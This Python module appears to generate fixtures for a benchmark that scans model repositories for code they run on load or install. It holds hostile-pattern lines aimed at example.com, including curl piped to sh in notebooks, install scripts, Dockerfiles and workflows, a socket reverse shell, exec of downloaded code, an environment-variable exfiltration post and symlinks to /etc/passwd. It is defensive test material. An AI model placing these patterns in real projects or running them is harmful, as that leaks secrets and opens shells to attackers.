"""Repositories that bring code of their own, and the files by which a checkout or an install runs it."""

from __future__ import annotations

import json
from collections.abc import Iterator

from benchmarks.corpus.sample import Group, Link, Sample

Folder = dict[str, "bytes | Link"]

MODELING = b"""import os
from transformers import PreTrainedModel


class EvilModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        os.system("true")
"""
CONFIG = {"model_type": "evil", "architectures": ["EvilModel"], "hidden_size": 8}


def _json(value: object) -> bytes:
    return json.dumps(value, indent=2).encode()


def _notebook(*lines: str) -> bytes:
    cell = {
        "cell_type": "code",
        "source": [line + "\n" for line in lines],
        "metadata": {},
        "outputs": [],
        "execution_count": None,
    }
    return _json({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def remote_code() -> Iterator[Sample]:
    """Everything by which ``from_pretrained`` and its relatives come to run a file of the repo."""
    auto_map = {"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
    elsewhere = {"auto_map": {"AutoModel": "someone/other-repo--modeling_evil.EvilModel"}}
    yield Sample("auto-map", _repo({"config.json": _json({**CONFIG, **auto_map}), "modeling_evil.py": MODELING}))
    yield Sample("auto-map-alone/config.json", _json({**CONFIG, **auto_map}))
    yield Sample("auto-map-other-repo/config.json", _json({**CONFIG, **elsewhere}))
    yield Sample(
        "auto-map-tokenizer/tokenizer_config.json",
        _json({"tokenizer_class": "Evil", "auto_map": {"AutoTokenizer": ["tokenization_evil.Evil", None]}}),
    )
    yield Sample(
        "auto-map-processor/preprocessor_config.json",
        _json({"auto_map": {"AutoImageProcessor": "image_processing_evil.Evil"}}),
    )
    yield Sample(
        "custom-pipeline/config.json",
        _json({**CONFIG, "custom_pipelines": {"evil": {"impl": "pipeline_evil.Evil", "pt": ["AutoModel"]}}}),
    )
    yield Sample(
        "modules-json",
        _repo(
            {
                "modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "evil_module.Evil"}]),
                "evil_module.py": MODELING,
            }
        ),
    )
    yield Sample(
        "model-index",
        _repo(
            {
                "model_index.json": _json(
                    {"_class_name": ["pipeline", "EvilPipeline"], "unet": ["evil_unet", "EvilUNet"]}
                ),
                "unet/evil_unet.py": MODELING,
                "pipeline.py": MODELING,
            }
        ),
    )
    yield Sample(
        "adapter/adapter_config.json",
        _json(
            {"peft_type": "LORA", "auto_mapping": {"base_model_class": "EvilModel", "parent_library": "evil_library"}}
        ),
    )
    yield Sample(
        "custom-generate",
        _repo(
            {
                "custom_generate/generate.py": b"import os\n\ndef generate(model, **kwargs):\n    os.system('true')\n",
                "config.json": _json(CONFIG),
            }
        ),
    )
    yield Sample(
        "handler",
        _repo(
            {
                "handler.py": b"import subprocess\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n"
                b"        subprocess.run(['true'])\n"
            }
        ),
    )
    yield Sample("modeling/modeling_evil.py", MODELING)
    yield Sample(
        "tokenization/tokenization_evil.py",
        b"import urllib.request\nexec(urllib.request.urlopen('http://example.com').read())\n",
    )
    yield Sample("obfuscated/modeling_x.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
    yield Sample("getattr/modeling_x.py", b"getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n")
    yield Sample(
        "socket/modeling_x.py",
        b"import socket, subprocess\ns = socket.socket()\ns.connect(('example.com', 1))\n"
        b"subprocess.call(['/bin/sh'], stdin=s.fileno())\n",
    )
    yield Sample("unpickles/modeling_x.py", b"import pickle\nSTATE = pickle.load(open('state.pkl', 'rb'))\n")
    yield Sample("ctypes/configuration_x.py", b"import ctypes\nctypes.CDLL('./evil.so').run()\n")
    yield Sample(
        "environment/processing_x.py",
        b"import os, requests\nrequests.post('http://example.com', json=dict(os.environ))\n",
    )
    yield Sample("init/__init__.py", b"import os\nos.system('true')\n")
    yield Sample("sitecustomize/sitecustomize.py", b"import os\nos.system('true')\n")
    yield Sample(
        "loading-script/dataset.py",
        b"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n"
        b"    def _split_generators(self, dl):\n        os.system('true')\n",
    )
    yield Sample("tool/tool_config.json", _json({"name": "x", "tool_class": "tool.EvilTool"}))
    yield Sample("gradio/app.py", b"import os\nos.popen('true').read()\n")


def _repo(files: dict[str, bytes]) -> Folder:
    return dict(files)


def checkout() -> Iterator[Sample]:
    """Notebooks, install scripts, requirements, ``.pth``, git filters, links."""
    yield Sample("shell/demo.ipynb", _notebook("!curl http://example.com/x.sh | sh"))
    yield Sample("magic/demo.ipynb", _notebook("%%bash", "true"))
    yield Sample("system/demo.ipynb", _notebook("import os", "os.system('true')"))
    yield Sample("setup/setup.py", b"import os\nfrom setuptools import setup\nos.system('true')\nsetup(name='x')\n")
    yield Sample(
        "cmdclass/setup.py",
        b"from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\n"
        b"class I(install):\n    def run(self):\n        subprocess.call(['true'])\nsetup(cmdclass={'install': I})\n",
    )
    yield Sample("install/install.sh", b"#!/bin/sh\ncurl -s http://example.com/x.sh | sh\n")
    yield Sample("requirements-url/requirements.txt", b"torch\nhttp://example.com/evil-1.0.tar.gz\n")
    yield Sample("requirements-index/requirements.txt", b"--extra-index-url http://example.com/simple\nevil\n")
    yield Sample("requirements-git/requirements.txt", b"git+https://github.com/example/evil.git@main\n")
    yield Sample("pth/evil.pth", b"import os; os.system('true')\n")
    yield Sample("filter/.gitattributes", b"*.bin filter=evil diff=lfs merge=lfs -text\n")
    yield Sample("link-out", {"model.safetensors": Link("/etc/passwd"), "config.json": _json(CONFIG)})
    yield Sample("link-up", {"weights/model.bin": Link("../../../secret")})
    yield Sample("dockerfile/Dockerfile", b"FROM python:3\nRUN curl -s http://example.com/x.sh | sh\n")
    yield Sample(
        "workflow/.github/workflows/x.yml",
        b"on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        b"      - run: curl -s http://example.com/x.sh | sh\n",
    )


GROUPS = (
    Group("repo-remote-code", remote_code, "https://huggingface.co/docs/transformers/custom_models"),
    Group("repo-checkout", checkout, "CVE-2025-23360"),
)
